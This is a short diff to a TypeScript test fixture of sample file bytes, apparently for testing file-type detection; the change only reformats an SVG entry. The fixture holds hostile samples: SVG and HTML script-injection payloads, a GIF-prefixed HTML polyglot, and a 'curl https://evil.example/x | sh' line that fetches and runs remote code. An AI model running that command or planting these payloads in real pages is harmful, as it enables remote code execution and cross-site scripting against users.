@@ -27,7 +27,9 @@ export const TEST_BYTES = {
   webp: concat(latin1("RIFF\x1a\x00\x00\x00WEBPVP8L"), hex("0d0000002f00000010071011118888fe0700")),
   heic: concat(hex("00000018"), latin1("ftypheic"), hex("00000000"), latin1("mif1heic")),
   html: latin1(html),
-  svg: latin1(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script></svg>`),
+  svg: latin1(
+    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script></svg>`,
+  ),
   script: latin1("#!/bin/sh\ncurl https://evil.example/x | sh\n"),
   /** An HTML page whose first three characters are what a GIF starts with. */
   htmlStartingWithGif: latin1(`GIF<html><script>alert(1)</script></html>`),
